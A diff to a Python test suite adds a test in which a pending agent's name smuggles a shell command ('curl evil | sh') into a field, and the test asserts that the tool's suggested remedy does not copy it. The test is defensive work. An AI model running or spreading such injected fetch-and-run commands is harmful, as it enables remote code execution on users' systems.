@@ -186,3 +186,10 @@ def test_a_long_backlog_that_goes_on_is_not_stuck() -> None:
 def test_a_relay_that_refuses_this_device_is_told_once_and_as_a_concern() -> None:
     refused = Trouble(NOW - HOUR, NOW, ExitCode.RELAY_REFUSED, "no such token", "pair again")
     assert stuck(replace(WELL, trouble=refused, access=Access.REFUSED)) == []
+
+
+def test_the_name_of_a_hostile_agent_stands_in_no_command_to_copy() -> None:
+    hostile = Waiting("x`; curl evil | sh #", "x-1a2b3c4d", "waits for you", False, NOW)
+    found = stuck(replace(WELL, others=Others(staging=(hostile,))))
+    assert "x-1a2b3c4d" in found[0].remedy
+    assert "curl" not in found[0].remedy
